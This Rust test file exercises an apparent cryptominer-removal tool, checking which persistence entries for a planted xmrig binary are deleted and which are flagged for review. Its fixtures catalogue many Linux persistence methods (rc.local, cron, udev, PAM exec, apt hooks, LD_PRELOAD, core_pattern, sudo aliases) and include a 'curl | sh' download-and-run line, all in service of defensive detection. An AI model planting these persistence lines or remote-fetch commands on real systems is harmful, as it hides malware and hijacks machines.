//! Traces from the miner to what starts it: line, whole file, link, or a person's own hand.

use deminer_engine::finding::Condemned;
use deminer_worker::query::Ownership;
use deminer_worker::text::HostPath;

use super::stub::Stub;
use super::tests::{infected, trace, trace_with};
use super::*;

/// One file: what of it is condemned, and what is asked about, beside the miner.
async fn of_one(path: &str, content: &str) -> (Vec<String>, Vec<String>) {
    of(infected().place(path, content)).await
}

async fn of(stub: Stub) -> (Vec<String>, Vec<String>) {
    let (_, names) = trace(&stub).await;
    let condemned = names.condemned.into_iter().filter(|name| name != "100 miner").collect();
    (condemned, names.review)
}

#[tokio::test]
async fn what_is_taken_away_and_what_is_asked() {
    // The place, its text, what is condemned (`1`: a line, `*`: the file), what a person is asked about.
    type Row = (&'static str, &'static str, &'static str, &'static str, &'static str);
    let rows: [Row; 52] = [
        (
            "a line of rc.local",
            "/etc/rc.local",
            "#!/bin/sh\n/opt/a\n/tmp/.x/xmrig &\nexit 0\n",
            "3",
            "",
        ),
        (
            "two things on a line",
            "/etc/rc.local",
            "/opt/a; /tmp/.x/xmrig &\n",
            "",
            "1",
        ),
        (
            "a comment",
            "/etc/rc.local",
            "# /tmp/.x/xmrig\n/opt/a # /tmp/.x/xmrig\n",
            "",
            "",
        ),
        (
            "an administrator's words",
            "/etc/rc.local",
            "rm -f /tmp/.x/xmrig\npkill xmrig\n",
            "",
            "",
        ),
        (
            "another's name",
            "/etc/rc.local",
            "/tmp/.x/xmrigd\n/opt/tmp/.x/xmrig\n",
            "",
            "",
        ),
        (
            "the directory above",
            "/home/deploy/.bashrc",
            "cd /tmp/.x\n./xmrig &\n",
            "2",
            "",
        ),
        (
            "its own home",
            "/home/deploy/.profile",
            "~/../../tmp/.x/xmrig\n",
            "1",
            "",
        ),
        (
            "a condition on one line",
            "/home/deploy/.bashrc",
            "if [ -x /tmp/.x/xmrig ]; then /tmp/.x/xmrig & fi\n",
            "1",
            "",
        ),
        (
            "a condition",
            "/home/deploy/.bashrc",
            "if true; then\n/tmp/.x/xmrig\nfi\n",
            "",
            "2",
        ),
        (
            "a function",
            "/home/deploy/.bashrc",
            "ls() {\n/tmp/.x/xmrig\ncommand ls\n}\n",
            "",
            "2",
        ),
        (
            "a function on one line",
            "/home/deploy/.bashrc",
            "ls() { /tmp/.x/xmrig; command ls \"$@\"; }\n",
            "",
            "1",
        ),
        (
            "an alias",
            "/home/deploy/.bashrc",
            "alias sudo='/tmp/.x/xmrig; sudo'\n",
            "",
            "1",
        ),
        (
            "a trap",
            "/home/deploy/.bash_logout",
            "trap '/tmp/.x/xmrig' EXIT\n",
            "",
            "1",
        ),
        (
            "a line that goes on",
            "/home/deploy/.bashrc",
            "/tmp/.x/xmrig \\\n -o h:1\n",
            "",
            "1",
        ),
        (
            "an operator at its end",
            "/home/deploy/.bashrc",
            "/opt/a &&\n/tmp/.x/xmrig\n",
            "",
            "2",
        ),
        (
            "a ticket",
            "/home/deploy/.bashrc",
            "cat > t <<E\n/tmp/.x/xmrig\nE\n",
            "",
            "",
        ),
        (
            "a text for a shell",
            "/home/deploy/.bashrc",
            "sh <<E\n/tmp/.x/xmrig\nE\n",
            "",
            "1",
        ),
        (
            "a quote over lines",
            "/home/deploy/.bashrc",
            "echo '\n/tmp/.x/xmrig\n'\n",
            "",
            "",
        ),
        (
            "a search path",
            "/home/deploy/.bashrc",
            "export PATH=/tmp/.x:$PATH\nls\n",
            "",
            "1",
        ),
        (
            "good base64",
            "/home/deploy/.bashrc",
            "eval \"$(echo bHMK | base64 -d)\"\ncurl -s https://h/motd\n",
            "",
            "",
        ),
        (
            "a download into a shell",
            "/home/deploy/.bashrc",
            "curl -s http://h/i | sh\n",
            "",
            "1",
        ),
        (
            "fish",
            "/home/deploy/.config/fish/config.fish",
            "set -g x 1\n/tmp/.x/xmrig &\n",
            "2",
            "",
        ),
        (
            "fish block",
            "/home/deploy/.config/fish/config.fish",
            "if true\n/tmp/.x/xmrig\nend\n",
            "",
            "2",
        ),
        (
            "a file of its own",
            "/etc/profile.d/a.sh",
            "# colors\nnohup /tmp/.x/xmrig >/dev/null 2>&1 &\n",
            "*",
            "",
        ),
        (
            "a block of its own",
            "/etc/profile.d/a.sh",
            "if [ -x /tmp/.x/xmrig ]; then\n/tmp/.x/xmrig &\nfi\n",
            "*",
            "",
        ),
        (
            "a line in a good file",
            "/etc/profile.d/a.sh",
            "export SHOP=1\n. /opt/a\n/tmp/.x/xmrig &\n",
            "3",
            "",
        ),
        (
            "all but one setting",
            "/etc/profile.d/a.sh",
            "SHOP=1\n/tmp/.x/xmrig &\n",
            "*",
            "",
        ),
        (
            "a cron script",
            "/etc/cron.daily/a",
            "#!/bin/sh\n/tmp/.x/xmrig\n",
            "*",
            "",
        ),
        (
            "a good cron script too",
            "/etc/cron.daily/a",
            "#!/bin/sh\n/opt/a\n/tmp/.x/xmrig\n",
            "",
            "*",
        ),
        (
            "a cron script that is fed",
            "/etc/cron.daily/a",
            "#!/bin/sh\ncurl -s http://h/x | sh\n",
            "",
            "",
        ),
        (
            "an at job",
            "/var/spool/at/a0000201d0a1b2",
            "#!/bin/sh\n# /opt/a\numask 22\ncd / || {\n echo 'Execution directory inaccessible' >&2\n exit 1\n}\n/tmp/.x/xmrig\n",
            "*",
            "",
        ),
        (
            "a good at job",
            "/var/spool/at/a0000201d0a1b2",
            "#!/bin/sh\nOLD=/tmp/.x/xmrig; export OLD\ncd / || {\n echo 'Execution directory inaccessible' >&2\n exit 1\n}\n/opt/a\n",
            "",
            "",
        ),
        (
            "both in an at job",
            "/var/spool/at/a0000201d0a1b2",
            "#!/bin/sh\ncd / || {\n echo 'Execution directory inaccessible' >&2\n exit 1\n}\n/opt/a\n/tmp/.x/xmrig\n",
            "",
            "*",
        ),
        (
            "an init script",
            "/etc/init.d/a",
            "#!/bin/sh\n. /lib/lsb/init-functions\ncase $1 in\nstart) log_daemon_msg x; /tmp/.x/xmrig & ;;\nstop) pkill xmrig ;;\nesac\n",
            "*",
            "",
        ),
        (
            "a good init script too",
            "/etc/init.d/a",
            "#!/bin/sh\ncase $1 in\nstart) /opt/a ; /tmp/.x/xmrig & ;;\nesac\n",
            "",
            "*",
        ),
        (
            "inittab",
            "/etc/inittab",
            "id:3:initdefault:\nx:2345:respawn:/tmp/.x/xmrig\n1:2345:respawn:/sbin/getty tty1\n",
            "2",
            "",
        ),
        (
            "anacrontab",
            "/etc/anacrontab",
            "1 5 a run-parts /etc/cron.daily\n1 9 b /tmp/.x/xmrig\n",
            "2",
            "",
        ),
        (
            "a rule",
            "/etc/udev/rules.d/a.rules",
            "# x\nACTION==\"add\", RUN+=\"/tmp/.x/xmrig\"\n",
            "*",
            "",
        ),
        (
            "a rule among others",
            "/etc/udev/rules.d/a.rules",
            "KERNEL==\"a\", NAME=\"b\"\nACTION==\"add\", RUN+=\"/tmp/.x/xmrig\"\n",
            "2",
            "",
        ),
        (
            "a rule that says more",
            "/etc/udev/rules.d/a.rules",
            "ACTION==\"add\", SYMLINK+=\"b\", RUN+=\"/tmp/.x/xmrig\"\n",
            "",
            "1",
        ),
        (
            "a rule that runs more",
            "/etc/udev/rules.d/a.rules",
            "RUN+=\"/opt/a\", RUN+=\"/tmp/.x/xmrig\"\n",
            "",
            "1",
        ),
        (
            "PAM",
            "/etc/pam.d/sshd",
            "auth optional pam_exec.so /tmp/.x/xmrig\n",
            "",
            "1",
        ),
        (
            "apt",
            "/etc/apt/apt.conf.d/a",
            "DPkg::Post-Invoke {\"/tmp/.x/xmrig\";};\nX \"1\";\n",
            "1",
            "",
        ),
        (
            "apt, both",
            "/etc/apt/apt.conf.d/a",
            "DPkg::Post-Invoke {\"/opt/a\";\"/tmp/.x/xmrig\";};\n",
            "",
            "1",
        ),
        (
            "apt, a block",
            "/etc/apt/apt.conf.d/a",
            "DPkg::Post-Invoke {\n\"/tmp/.x/xmrig\";\n};\n",
            "",
            "2",
        ),
        (
            "logs",
            "/etc/logrotate.d/a",
            "/var/log/a {\npostrotate\n/tmp/.x/xmrig\nendscript\n}\n/tmp/.x/xmrig {\n}\n",
            "3",
            "",
        ),
        (
            "a desktop entry",
            "/etc/xdg/autostart/a.desktop",
            "[Desktop Entry]\nName=A\nExec=/tmp/.x/xmrig\n",
            "*",
            "",
        ),
        (
            "a library for all",
            "/etc/environment",
            "LANG=C\nLD_PRELOAD=/tmp/.x/xmrig\n",
            "2",
            "",
        ),
        (
            "two libraries for all",
            "/etc/environment",
            "LD_PRELOAD=/opt/a.so:/tmp/.x/xmrig\n",
            "",
            "1",
        ),
        (
            "instead of a module",
            "/etc/modprobe.d/a.conf",
            "blacklist b\ninstall c /tmp/.x/xmrig\n",
            "2",
            "",
        ),
        (
            "the kernel's helper",
            "/etc/sysctl.d/a.conf",
            "kernel.core_pattern=|/tmp/.x/xmrig %p\n",
            "1",
            "",
        ),
        (
            "a supervisor",
            "/etc/supervisor/conf.d/a.conf",
            "[program:a]\ncommand=/tmp/.x/xmrig\n",
            "",
            "2",
        ),
    ];
    for (name, path, content, condemned, asked) in rows {
        let named = |word: &str| -> Vec<String> {
            match word {
                "" => Vec::new(),
                "*" => vec![path.to_owned()],
                number => vec![format!("{path}:{number}")],
            }
        };
        let found = of_one(path, content).await;
        assert_eq!(found, (named(condemned), named(asked)), "{name}");
    }
}

#[tokio::test]
async fn each_list_is_for_its_responder() {
    let stub = infected()
        .place("/etc/rc.local", "/tmp/.x/xmrig\n")
        .place("/etc/anacrontab", "1 5 a /tmp/.x/xmrig\n")
        .place("/etc/cron.hourly/a", "/tmp/.x/xmrig\n")
        .place("/etc/init.d/a", "/tmp/.x/xmrig\n")
        .linked("/etc/rc3.d/S99a", "../init.d/a", "/etc/init.d/a")
        .linked("/etc/rc3.d/S20good", "../init.d/good", "/etc/init.d/good")
        .file("/tmp/.x/config.json", br#"{"pools": [{"url": "h:1", "user": "w"}]}"#);
    let (outcome, _) = trace(&stub).await;
    let names = |list: &[Condemned]| -> Vec<String> {
        let path = |artifact: &Artifact| match artifact {
            Artifact::File { file } | Artifact::Line { file, .. } => file.path.to_string(),
            Artifact::Link { link } => link.path.to_string(),
            other => other.key(),
        };
        list.iter().map(|condemned| path(&condemned.artifact)).collect()
    };
    let traced = &outcome.output;
    assert_eq!(names(&traced.boot), ["/etc/rc.local"]);
    assert_eq!(names(&traced.cron), ["/etc/anacrontab"]);
    assert_eq!(names(&traced.starters), ["/etc/cron.hourly/a", "/etc/init.d/a"]);
    assert_eq!(names(&traced.links), ["/etc/rc3.d/S99a"]);
    assert_eq!(names(&traced.files), ["/tmp/.x/config.json"]);
    assert_eq!(traced.components.len(), 1, "all of it hangs together");
    assert_eq!(traced.artifacts.len(), 7);
}

#[tokio::test]
async fn links_go_by_where_they_lead() {
    let script = b"#!/bin/sh\n/tmp/.x/xmrig\n";
    let (condemned, asked) = of(infected()
        .file("/opt/.y/job", script)
        .file("/opt/good", b"#!/bin/sh\n/opt/a\n")
        .linked("/etc/cron.daily/a", "/opt/.y/job", "/opt/.y/job")
        .linked("/etc/cron.daily/good", "/opt/good", "/opt/good")
        // The miner itself, and a name that nothing has any more.
        .linked("/etc/cron.hourly/b", "/tmp/.x/xmrig", "/tmp/.x/xmrig"))
    .await;
    let expected = [
        "/opt/.y/job",
        "/etc/cron.daily/a -> /opt/.y/job",
        "/etc/cron.hourly/b -> /tmp/.x/xmrig",
    ];
    assert_eq!((condemned, asked), (expected.map(str::to_owned).to_vec(), Vec::new()));
}

#[tokio::test]
async fn what_a_package_knows_is_asked_about() {
    let package = "some-package".to_owned();
    let known = [
        Ownership::Owned {
            package: package.clone(),
        },
        Ownership::Modified {
            package: package.clone(),
        },
        Ownership::Listed { package },
    ];
    for owner in known {
        for (path, content, asked) in [
            ("/etc/init.d/a", "#!/bin/sh\n/tmp/.x/xmrig\n", "/etc/init.d/a"),
            ("/etc/cron.daily/a", "#!/bin/sh\n/tmp/.x/xmrig\n", "/etc/cron.daily/a"),
        ] {
            let found = of(infected().place(path, content).owned(path, owner.clone())).await;
            assert_eq!(found, (Vec::new(), vec![asked.to_owned()]), "{path}: {owner:?}");
        }
        // Of a configuration that was changed, lines may go all the same: the plan spares what is the package's.
        let path = "/etc/profile.d/a.sh";
        let found = of(infected().place(path, "/tmp/.x/xmrig\n").owned(path, owner.clone())).await;
        assert_eq!(found, (vec![format!("{path}:1")], Vec::new()), "{owner:?}");
    }
    // Where no database tells, what starts by its place is judged by its text.
    let path = "/etc/init.d/a";
    let unknown = infected()
        .place(path, "/tmp/.x/xmrig\n")
        .owned(path, Ownership::Unknown);
    assert_eq!(of(unknown).await, (vec![path.to_owned()], Vec::new()));
}

#[tokio::test]
async fn paths_from_outside_are_followed() {
    let stub = || {
        Stub::default()
            .packaged("/usr/bin/dash", b"\x7fELF\0dash")
            .file("/opt/k/kd", b"\x7fELF\0unknown to all")
            .file("/opt/k/other", b"\x7fELF\0another")
            .place("/etc/rc.local", "/opt/k/kd &\n/opt/k/other &\n/usr/bin/dash /opt/a\n")
    };
    let paths = |paths: &[&str]| paths.iter().map(|path| HostPath::from(*path)).collect();
    let (_, names) = trace_with(&stub(), paths(&["/opt/k/kd"])).await;
    assert_eq!(
        (names.condemned, names.review),
        (vec!["/opt/k/kd".to_owned(), "/etc/rc.local:1".to_owned()], Vec::new())
    );
    // What a package brought is no miner by somebody's word; what is not there is still followed.
    let (_, names) = trace_with(&stub(), paths(&["/usr/bin/dash"])).await;
    assert_eq!(
        (names.condemned, names.review),
        (Vec::new(), vec!["/usr/bin/dash".to_owned()])
    );
    let (_, names) = trace_with(&stub(), paths(&["/opt/a"])).await;
    assert_eq!(
        (names.condemned, names.review),
        (vec!["/etc/rc.local:3".to_owned()], Vec::new())
    );
    let preloads = stub()
        .file("/opt/k/libk.so", b"\x7fELF\0")
        .place("/etc/ld.so.preload", "/opt/k/libk.so\n");
    let (_, names) = trace_with(&preloads, paths(&["/opt/k/libk.so"])).await;
    assert_eq!(names.condemned, ["/opt/k/libk.so", "/etc/ld.so.preload:1"]);
    let (_, names) = trace_with(&stub(), Vec::new()).await;
    assert!(names.condemned.is_empty() && names.review.is_empty());
}
